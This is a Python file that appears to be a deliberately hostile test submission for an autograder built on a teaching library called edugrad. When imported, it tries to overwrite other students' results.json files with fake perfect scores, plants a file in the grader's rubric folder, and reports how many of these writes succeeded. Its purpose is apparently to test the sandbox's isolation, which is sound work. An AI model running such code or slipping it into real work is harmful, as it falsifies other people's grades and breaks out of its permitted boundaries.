# HOSTILE: tries to write outside its sandbox: overwrites every other student's results.json it can find (in the output folders named by --out on its ancestors' command lines, and in the repository's grades/), plants a new file in the repository's rubric folder, and reports in log.backward's error how many of those writes succeeded ("write-report: N of M"); sigmoid, multiply and dot are correct.
import json
import os
import edugrad


ROOT = os.path.dirname(os.path.dirname(os.path.abspath(edugrad.__file__)))
PLANT = os.path.join(ROOT, 'grader', 'rubric', 'public', 'zz_planted_by_hostile_entry.txt')
FAKE = json.dumps({'score': 100.0, 'max_score': 100.0, 'output': 'PLANTED-BY-HOSTILE', 'tests': []})
REPORT = {'tried': 0, 'done': []}


# include: ancestors


def _out_folders():
    for args in _ancestor_argvs():
        for i, arg in enumerate(args[:-1]):
            if arg == '--out':
                yield os.path.abspath(args[i + 1])
    yield os.path.join(ROOT, 'grades')


def _try_write(path: str, text: str) -> None:
    REPORT['tried'] += 1
    try:
        with open(path, 'w') as f:
            f.write(text)
        REPORT['done'].append(path)
    except OSError:
        pass


def _attack() -> None:
    for folder in _out_folders():
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names[:200]:
            target = os.path.join(folder, name, 'results.json')
            if os.path.isfile(target):
                _try_write(target, FAKE)
    _try_write(PLANT, 'planted by a hostile submission\n')


_attack()


def log_backward(ctx, grad_output):
    raise RuntimeError(f"write-report: {len(REPORT['done'])} of {REPORT['tried']} writes outside the sandbox succeeded {REPORT['done'][:3]}")
